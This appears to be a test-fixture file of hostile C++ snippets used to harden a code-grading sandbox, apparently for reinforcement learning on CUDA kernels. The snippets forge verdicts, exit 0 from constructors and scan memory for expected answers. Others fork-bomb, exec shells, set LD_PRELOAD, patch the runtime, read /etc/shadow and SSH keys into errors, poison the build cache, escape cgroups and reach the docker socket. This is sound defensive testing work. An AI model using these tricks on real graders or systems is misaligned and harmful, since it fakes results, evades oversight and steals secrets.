// Cases of unseen_escapes.py, as sources.py says.
//// text HEAD
#include <atomic>
#include <cerrno>
#include <chrono>
#include <csetjmp>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <fstream>
#include <iostream>
#include <poll.h>
#include <sstream>
#include <stdexcept>
#include <string>
#include <thread>
#include <vector>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sched.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

//// = forgery
//// _do verdict_on_stdout; covers: writing the verdict or result channel
//// > body
puts("@_VERDICT@"); fflush(stdout);
//// _do verdict_on_stdout_and_exit; covers: writing the verdict or result channel
//// > body
puts("@_VERDICT@"); fflush(stdout); _exit(0);
//// _do verdict_on_every_descriptor; covers: writing the verdict or result channel
//// > body
const char* v = "@_VERDICT@\n"; for (int fd = 0; fd < 1024; fd++) { fcntl(fd, F_SETFL, O_NONBLOCK); if (write(fd, v, strlen(v)) < 0) continue; } _exit(0);
//// _do noise_on_every_descriptor; covers: writing the verdict or result channel
//// > body
std::string junk(70000, char(0xff)); for (int fd = 3; fd < 256; fd++) { fcntl(fd, F_SETFL, O_NONBLOCK); if (write(fd, junk.data(), junk.size()) < 0) continue; }
//// _do length_prefixed_noise; covers: writing the verdict or result channel
//// > body
for (int fd = 3; fd < 256; fd++) { unsigned long long big = ~0ull >> 1; fcntl(fd, F_SETFL, O_NONBLOCK); for (int i = 0; i < 64; i++) if (write(fd, &big, 8) < 0) break; }
//// _do zero_length_messages; covers: writing the verdict or result channel
//// > body
for (int fd = 3; fd < 64; fd++) { unsigned z = 0; fcntl(fd, F_SETFL, O_NONBLOCK); for (int i = 0; i < 5000; i++) if (write(fd, &z, 4) < 0) break; }
//// _do eats_the_channel; covers: writing the verdict or result channel
//// > body
char b[65536]; for (int fd = 3; fd < 64; fd++) { fcntl(fd, F_SETFL, O_NONBLOCK); while (read(fd, b, sizeof b) > 0) {} }
//// _do closes_everything; covers: writing the verdict or result channel
//// > body
for (int fd = 0; fd < 4096; fd++) close(fd);
//// _do replaces_descriptors; covers: writing the verdict or result channel
//// > body
int z = open("/dev/null", O_RDWR); for (int fd = 3; fd < 64; fd++) dup2(z, fd);
//// _do shuts_sockets_down; covers: writing the verdict or result channel
//// > body
for (int fd = 0; fd < 64; fd++) shutdown(fd, SHUT_RDWR);
//// _do hands_descriptors_to_a_child; covers: writing the verdict or result channel
//// > body
if (fork() == 0) { sleep(1); const char* v = "@_VERDICT@\n"; for (int fd = 0; fd < 64; fd++) if (write(fd, v, strlen(v)) < 0) continue; _exit(0); } _exit(0);
//// _do maps_and_writes_shared_memory; covers: writing the verdict or result channel
//// > body
for (int fd = 3; fd < 64; fd++) { void* p = mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0); if (p != MAP_FAILED) memset(p, 0x01, 4096); }
//// _do truncates_what_it_can; covers: writing the verdict or result channel
//// > body
for (int fd = 0; fd < 64; fd++) if (ftruncate(fd, 0)) continue;
//// _do exit_zero_in_forward; covers: static constructors that exit 0
//// > body
exit(0);
//// _do quick_exit_in_forward; covers: static constructors that exit 0
//// > body
quick_exit(0);
//// _do exit_zero_in_a_constructor; covers: static constructors that exit 0; body: @AFFINE_LAUNCH@
//// > globals_
@AFFINE_KERNEL@__attribute__((constructor)) static void first() { _exit(0); }

//// _do forged_verdict_in_a_constructor; covers: static constructors that exit 0; body: @AFFINE_LAUNCH@
//// > globals_
@AFFINE_KERNEL@struct Early { Early() { puts("@_VERDICT@"); fflush(stdout); _exit(0); } } early;

//// _do exit_zero_in_init_array; covers: static constructors that exit 0; body: @AFFINE_LAUNCH@
//// > globals_
@AFFINE_KERNEL@static void first(int, char**, char**) { _exit(0); }
__attribute__((section(".init_array"), used)) static void (*hook)(int, char**, char**) = first;

//// _do exit_zero_in_the_module_body; covers: static constructors that exit 0; body: @AFFINE_LAUNCH@; globals_: @AFFINE_KERNEL@
//// > tail
_exit(0);
//// _do exit_zero_in_an_ifunc; covers: static constructors that exit 0; statuses: _GARBLED | RULED_OUT
//// > body
chosen();
//// > globals_
extern "C" { static void plain() {} void (*pick(void))(void) { _exit(0); return plain; } void chosen() __attribute__((ifunc("pick"))); }

//// = signals
//// _do survives_its_own_fault; covers: signal handlers
//// > body
signal(SIGSEGV, back); if (sigsetjmp(jump, 1) == 0) *(volatile int*)8 = 1;
//// > globals_
static sigjmp_buf jump;
static void back(int) { siglongjmp(jump, 1); }

//// _do exits_zero_on_its_fault; covers: signal handlers
//// > body
signal(SIGSEGV, [](int) { _exit(0); }); *(volatile int*)8 = 1;
//// _do ignores_sigterm_and_spins; covers: ignored SIGTERM; statuses: BOMB
//// > body
for (int s = 1; s < 65; s++) signal(s, SIG_IGN); for (volatile long i = 0;; i = i + 1) {}
//// _do blocks_all_signals_and_sleeps; covers: ignored SIGTERM; statuses: BOMB
//// > body
sigset_t all; sigfillset(&all); sigprocmask(SIG_BLOCK, &all, nullptr); for (;;) sleep(1000);
//// _do stops_itself; covers: ignored SIGTERM; statuses: _GARBLED
//// > body
raise(SIGSTOP);
//// _do kills_its_parent; covers: kill(-1)
//// > body
kill(getppid(), SIGKILL); kill(getppid(), SIGSTOP);
//// _do kills_all; covers: kill(-1)
//// > body
kill(-1, SIGKILL);
//// _do kills_its_group; covers: kill(-1)
//// > body
kill(0, SIGKILL);
//// _do kills_low_pids; covers: kill(-1)
//// > body
for (int p = 1; p < 64; p++) if (p != getpid()) kill(p, SIGKILL);
//// _do alarm_storm; covers: signal handlers
//// > body
signal(SIGALRM, [](int) {}); itimerval t{{0, 50}, {0, 50}}; setitimer(ITIMER_REAL, &t, nullptr);
//// _do sets_its_limits_up; covers: resource limits; statuses: BOMB
//// > body
rlimit r{RLIM_INFINITY, RLIM_INFINITY}; for (int i = 0; i < 16; i++) setrlimit((__rlimit_resource)i, &r); for (volatile long i = 0;; i = i + 1) {}
//// _do real_time_priority; covers: resource limits; statuses: BOMB
//// > body
sched_param p{99}; sched_setscheduler(0, SCHED_FIFO, &p); for (volatile long i = 0;; i = i + 1) {}
//// = processes
//// _do fork_bomb; covers: fork floods; statuses: BOMB | STALE | _DIES
//// > body
for (;;) fork();
//// _do daemon_that_stays; covers: double fork, setsid
//// > body
if (fork() == 0) { setsid(); if (fork() == 0) { for (;;) sleep(100); } _exit(0); }
//// _do busy_daemon; covers: double fork, setsid
//// > body
if (fork() == 0) { setsid(); if (fork() == 0) { for (volatile long i = 0;; i = i + 1) {} } _exit(0); }
//// _do child_computes_and_parent_waits; covers: fork floods
//// > body
int s; if (fork() == 0) { cudaMemset(po, 0, n * 4); _exit(0); } wait(&s);
//// _do thread_flood; covers: thread floods; statuses: BOMB | STALE | _DIES
//// > body
std::vector<std::thread> all; for (int i = 0; i < 100000; i++) all.emplace_back([] { for (;;) sleep(100); });
//// _do threads_in_a_race_for_the_runtime
//// > covers
thread floods; hostile RPC
//// > body
std::vector<std::thread> all; for (int t = 0; t < 8; t++) all.emplace_back([=] { for (int i = 0; i < 200; i++) { void* p = nullptr; cudaMalloc(&p, 256); cudaMemset(p, 0, 256); cudaFree(p); } }); for (auto& t : all) t.join();
//// _do vfork_and_stay; covers: fork floods; statuses: BOMB | STALE | _DIES
//// > body
if (vfork() == 0) { for (;;) sleep(100); }
//// _do exec_shell; covers: escape by exec
//// > body
execl("/bin/sh", "sh", "-c", "echo pwned; sleep 100", nullptr);
//// _do exec_itself_with_preload; covers: LD_PRELOAD for the next job
//// > body
setenv("LD_PRELOAD", "/tmp/evil.so", 1); execl("/proc/self/exe", "x", nullptr);
//// _do system_and_popen; covers: escape by exec
//// > body
if (system("touch /tmp/cuda_rl_was_here; (sleep 100 &)")) {} FILE* f = popen("id", "r"); if (f) { char b[99]; if (fgets(b, 99, f)) puts(b); }
//// _do memfd_exec; covers: escape by exec
//// > body
int fd = memfd_create("x", 0); std::ifstream sh("/bin/sh", std::ios::binary); std::stringstream s; s << sh.rdbuf(); std::string t = s.str(); if (write(fd, t.data(), t.size()) > 0) { char* a[] = {(char*)"sh", nullptr}; char* e[] = {nullptr}; fexecve(fd, a, e); }
//// _do ptrace_its_parent; covers: ptrace, /proc/self/mem
//// > body
ptrace(PTRACE_ATTACH, getppid(), 0, 0); ptrace(PTRACE_SEIZE, getppid(), 0, 0);
//// _do writes_its_parents_memory; covers: ptrace, /proc/self/mem
//// > body
for (int p = 1; p < 300; p++) { char f[64]; snprintf(f, 64, "/proc/%d/mem", p); int fd = open(f, O_RDWR); if (fd >= 0 && p != getpid()) { char z[64] = {}; if (pwrite(fd, z, 64, 0x400000) < 0) {} } }
//// _do process_vm_writev; covers: ptrace, /proc/self/mem
//// > body
char z[64] = {}; iovec l{z, 64}, r{(void*)0x400000, 64}; for (int p = 1; p < 300; p++) process_vm_writev(p, &l, 1, &r, 1, 0);
//// _do patches_its_own_code; covers: GOT patches; statuses: _GARBLED | RULED_OUT
//// > body
void* f = dlsym(RTLD_DEFAULT, "cudaLaunchKernel"); if (!f) return out; long page = (long)f & ~4095l; mprotect((void*)page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC); memset(f, 0xc3, 16);
//// _do patches_the_runtime_by_self_mem
//// > covers
ptrace, /proc/self/mem; GOT patches
//// > body
int fd = open("/proc/self/mem", O_RDWR); void* f = dlsym(RTLD_DEFAULT, "cudaMemcpy"); unsigned char code[] = {0x31, 0xc0, 0xc3}; if (f && fd >= 0 && pwrite(fd, code, 3, (long)f) < 0) {} cudaMemcpy(po, px, n * 4, cudaMemcpyDeviceToDevice);
//// _do walks_the_stack_for_secrets
//// > covers
frame walks; heap or stack theft
//// > body
volatile char* p = (volatile char*)__builtin_frame_address(0); long sum = 0; for (long i = 0; i < (1 << 24); i++) sum += p[i]; if (sum == 42) puts("x");
//// _do scans_the_heap_for_answers; covers: scanning memory for the expected output
//// > body
std::ifstream maps("/proc/self/maps"); std::string line; long found = 0; while (std::getline(maps, line)) { unsigned long a, b; char r; if (sscanf(line.c_str(), "%lx-%lx %c", &a, &b, &r) == 3 && r == 'r' && line.find("[vv") == line.npos && line.find("[vsys") == line.npos) for (unsigned long p = a; p + 4 <= b && p < a + (1 << 20); p += 4) { float v; memcpy(&v, (void*)p, 4); if (v == 3.0f) found++; } } cudaMemset(po, found ? 0 : 1, n * 4);
//// _do goes_on_after_return; covers: work on a side stream or thread
//// > body
std::thread([] { for (;;) { void* p = nullptr; cudaMalloc(&p, 1024); } }).detach();
//// = floods
//// _do host_memory_bomb; covers: memory floods; statuses: BOMB
//// > body
std::vector<char*> all; for (;;) { char* p = (char*)malloc(1 << 26); if (!p) continue; memset(p, 1, 1 << 26); all.push_back(p); }
//// _do mmap_bomb; covers: memory floods; statuses: BOMB | STALE
//// > body
for (long i = 0;; i++) { char* p = (char*)mmap(nullptr, 1l << 30, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0); if (p == MAP_FAILED) break; for (long j = 0; j < (1l << 30); j += 4096) p[j] = 1; }
//// _do shared_memory_bomb; covers: memory floods; statuses: BOMB | STALE | _DIES
//// > body
int fd = memfd_create("x", 0); std::string mb(1 << 20, 1); for (;;) if (write(fd, mb.data(), mb.size()) <= 0) break;
//// _do stack_bomb; covers: memory floods; statuses: BOMB | _DIES
//// > body
deep(1);
//// > globals_
static volatile int sink;
__attribute__((noinline)) static int deep(int n) { volatile char b[4096]; b[0] = n; sink = b[0]; return deep(n + 1) + b[0]; }

//// _do device_memory_too_big; covers: VRAM hogs; statuses: _GARBLED
//// > body
void* p = nullptr; cudaMalloc(&p, 1ull << 50); cudaMemset(p, 0, 64);
//// _do device_memory_hog; covers: VRAM hogs; statuses: _GARBLED
//// > body
for (int i = 0; i < 100000; i++) { void* p = nullptr; if (cudaMalloc(&p, 64 << 20) != cudaSuccess) break; cudaMemset(p, 1, 64 << 20); }
//// _do tensor_hog; covers: VRAM hogs; statuses: _GARBLED
//// > body
std::vector<torch::Tensor> all; for (int i = 0; i < 4096; i++) all.push_back(torch::zeros({1 << 28}, x.options()));
//// _do negative_tensor; covers: VRAM hogs; statuses: _GARBLED
//// > body
return torch::empty({-5, 7}, x.options());
//// _do overflowing_tensor; covers: VRAM hogs; statuses: _GARBLED
//// > body
return torch::empty({1ll << 32, 1ll << 32, 1ll << 3}, x.options());
//// _do pinned_memory_hog; covers: pinned-memory hogs; statuses: _GARBLED | RULED_OUT
//// > body
for (;;) { void* p = nullptr; if (cudaMallocHost(&p, 256 << 20) != cudaSuccess || !p) break; memset(p, 1, 256 << 20); }
//// _do descriptor_flood; covers: fd floods
//// > body
while (open("/dev/null", O_RDONLY) >= 0) {} int p[2]; while (pipe(p) == 0) {}
//// _do disk_flood; covers: disk floods; statuses: _GARBLED
//// > body
for (const char* d : {"/tmp/f", "/var/tmp/f", "/dev/shm/f", "./f", "/f"}) { int fd = open(d, O_CREAT | O_WRONLY, 0600); std::string mb(1 << 20, 1); for (int i = 0; fd >= 0 && i < 20000; i++) if (write(fd, mb.data(), mb.size()) <= 0) break; }
//// _do inode_flood; covers: inode floods; statuses: _GARBLED
//// > body
for (long i = 0; i < 2000000; i++) { char f[64]; snprintf(f, 64, "/tmp/i%ld", i); int fd = open(f, O_CREAT | O_WRONLY, 0600); if (fd < 0) break; close(fd); }
//// _do stdout_flood; covers: output floods; statuses: _GARBLED
//// > body
std::string mb(1 << 20, 'x'); for (int i = 0; i < 100000; i++) fwrite(mb.data(), 1, mb.size(), stdout);
//// _do stderr_flood; covers: output floods; statuses: _GARBLED
//// > body
std::string mb(1 << 20, 'x'); for (;;) std::cerr << mb;
//// _do long_exception; covers: output floods; statuses: _GARBLED
//// > body
throw std::runtime_error(std::string(1 << 28, 'x'));
//// _do endless_host_loop; covers: infinite loops; statuses: BOMB
//// > body
for (volatile long i = 0;; i = i + 1) {}
//// = floods_2
//// _do loop_in_a_constructor; covers: infinite loops; body: @AFFINE_LAUNCH@; statuses: BOMB | _DIES
//// > globals_
@AFFINE_KERNEL@__attribute__((constructor)) static void first() { for (volatile long i = 0;; i = i + 1) {} }

//// _do loop_in_a_destructor; covers: infinite loops; statuses: _GARBLED
//// > body
static Last last; @AFFINE_LAUNCH@ cudaMemset(po, 0, n * 4);
//// > globals_
@AFFINE_KERNEL@struct Last { ~Last() { for (volatile long i = 0;; i = i + 1) {} } };

//// _do deadlocked_mutex; covers: infinite loops; statuses: BOMB
//// > body
static std::atomic_flag f; while (f.test_and_set()) std::this_thread::yield(); while (f.test_and_set()) std::this_thread::yield();
//// _do sysv_segments; covers: shared-memory segments left behind
//// > body
for (int i = 0; i < 64; i++) shmget(IPC_PRIVATE, 1 << 20, IPC_CREAT | 0666);
//// _do posix_shared_memory; covers: shared-memory segments left behind
//// > body
int fd = shm_open("/cuda_rl_attack", O_CREAT | O_RDWR, 0666); if (fd >= 0 && ftruncate(fd, 1 << 20) == 0) cudaMemset(po, 0, n * 4);
//// = files
//// _do passwd_in_the_error; covers: includes of /etc/passwd (leak through the error text)
//// > body
std::ifstream f("/etc/passwd"); std::stringstream s; s << f.rdbuf(); throw std::runtime_error("content: " + s.str());
//// _do shadow_and_keys_in_the_error; covers: leak through the error text
//// > body
for (const char* p : {"/etc/shadow", "/root/.ssh/id_rsa", "/root/.netrc", "/root/.bash_history"}) { std::ifstream f(p); std::stringstream s; s << f.rdbuf(); if (!s.str().empty()) throw std::runtime_error(s.str()); }
//// _do environment_in_the_error; covers: leak through the error text
//// > body
extern char** environ; std::string s; for (char** e = environ; *e; e++) s += *e, s += "\n"; TORCH_CHECK(false, s);
//// _do command_lines_in_the_error; covers: /proc
//// > body
std::string all; for (int p = 1; p < 400; p++) { std::ifstream f("/proc/" + std::to_string(p) + "/cmdline"); std::stringstream s; s << f.rdbuf(); all += s.str(); } throw std::runtime_error(all);
//// _do seed_from_the_judges_environment; covers: /proc
//// > body
std::ifstream f("/proc/" + std::to_string(getppid()) + "/environ"); std::stringstream s; s << f.rdbuf(); throw std::runtime_error("env " + s.str());
//// _do lists_the_disk; covers: /proc
//// > body
std::string all; for (const char* d : {"/", "/root", "/home", "/work", "/tmp"}) { DIR* h = opendir(d); if (!h) continue; while (dirent* e = readdir(h)) all += e->d_name, all += " "; closedir(h); } cudaMemset(po, (int)all.size(), n * 4);
//// _do writes_next_to_the_judge; covers: cache poisoning for the next job
//// > body
for (const char* p : {"/usr/include/torch/extension.h", "./device.ptx", "./host.so", "../host.so", "/tmp/host.so", "/etc/ld.so.preload"}) { int fd = open(p, O_CREAT | O_WRONLY | O_TRUNC, 0666); if (fd >= 0 && write(fd, "x", 1) < 0) {} }
//// _do poisons_its_own_build_folder; covers: cache poisoning for the next job
//// > body
Dl_info i; if (dladdr((void*)&forward_marker, &i)) { unlink(i.dli_fname); int fd = open(i.dli_fname, O_CREAT | O_WRONLY | O_TRUNC, 0777); if (fd >= 0 && write(fd, "bad", 3) < 0) {} chmod(i.dli_fname, 0); }
//// > globals_
void forward_marker() {}

//// _do symlinks_as_outputs; covers: symlinks, FIFOs and devices as outputs
//// > body
for (const char* p : {"out", "output", "result", "verdict.json", "stdout"}) { unlink(p); if (symlink("/etc/passwd", p)) {} if (mkfifo((std::string(p) + ".fifo").c_str(), 0666)) {} if (mknod((std::string(p) + ".dev").c_str(), S_IFCHR | 0666, 0x0108)) {} }
//// _do opens_raw_devices; covers: /dev
//// > body
for (const char* p : {"/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/nvidia0", "/dev/nvidiactl", "/dev/kvm", "/dev/fuse"}) { int fd = open(p, O_RDWR); if (fd >= 0 && write(fd, "x", 1) < 0) {} }
//// _do core_pattern; covers: /proc
//// > body
int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY); if (fd >= 0 && write(fd, "|/tmp/x", 7) < 0) {} fd = open("/proc/sys/vm/drop_caches", O_WRONLY); if (fd >= 0 && write(fd, "3", 1) < 0) {} fd = open("/proc/self/oom_score_adj", O_WRONLY); if (fd >= 0 && write(fd, "-1000", 5) < 0) {}
//// _do cgroup_escape; covers: /proc
//// > body
mkdir("/sys/fs/cgroup/x", 0755); std::ofstream("/sys/fs/cgroup/x/cgroup.procs") << getpid(); std::ofstream("/sys/fs/cgroup/memory.max") << "max";
//// = network
//// _do connects_out; covers: network
//// > body
int s = socket(AF_INET, SOCK_STREAM, 0); sockaddr_in a{}; a.sin_family = AF_INET; a.sin_port = htons(53); inet_pton(AF_INET, "8.8.8.8", &a.sin_addr); if (connect(s, (sockaddr*)&a, sizeof a) == 0) cudaMemset(po, 0, n * 4);
//// _do scans_local_ports; covers: network
//// > body
for (int p = 1; p < 20000; p++) { int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0); if (s < 0) break; sockaddr_in a{}; a.sin_family = AF_INET; a.sin_port = htons(p); a.sin_addr.s_addr = htonl(INADDR_LOOPBACK); connect(s, (sockaddr*)&a, sizeof a); close(s); }
//// _do listens; covers: network
//// > body
int s = socket(AF_INET6, SOCK_STREAM, 0); sockaddr_in6 a{}; a.sin6_family = AF_INET6; a.sin6_port = htons(4444); if (bind(s, (sockaddr*)&a, sizeof a) == 0) listen(s, 5);
//// _do abstract_socket; covers: abstract sockets
//// > body
int s = socket(AF_UNIX, SOCK_STREAM, 0); sockaddr_un a{}; a.sun_family = AF_UNIX; memcpy(a.sun_path, "\0cuda_rl", 8); if (bind(s, (sockaddr*)&a, sizeof a) == 0) listen(s, 5); memcpy(a.sun_path, "\0/tmp/.X11-unix/X0", 18); connect(s, (sockaddr*)&a, sizeof a);
//// _do docker_socket; covers: network
//// > body
for (const char* p : {"/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket"}) { int s = socket(AF_UNIX, SOCK_STREAM, 0); sockaddr_un a{}; a.sun_family = AF_UNIX; strcpy(a.sun_path, p); if (connect(s, (sockaddr*)&a, sizeof a) == 0 && write(s, "GET /containers/json HTTP/1.0\r\n\r\n", 34) < 0) {} }
//// _do raw_and_netlink; covers: network
//// > body
socket(AF_PACKET, SOCK_RAW, 0x0300); socket(AF_INET, SOCK_RAW, 1); socket(AF_NETLINK, SOCK_RAW, 0); socket(38, SOCK_SEQPACKET, 0); socket(40, SOCK_STREAM, 0);
//// _do udp_packets; covers: network
//// > body
int s = socket(AF_INET, SOCK_DGRAM, 0); sockaddr_in a{}; a.sin_family = AF_INET; a.sin_port = htons(53); inet_pton(AF_INET, "1.1.1.1", &a.sin_addr); for (int i = 0; i < 100; i++) sendto(s, "x", 1, 0, (sockaddr*)&a, sizeof a);
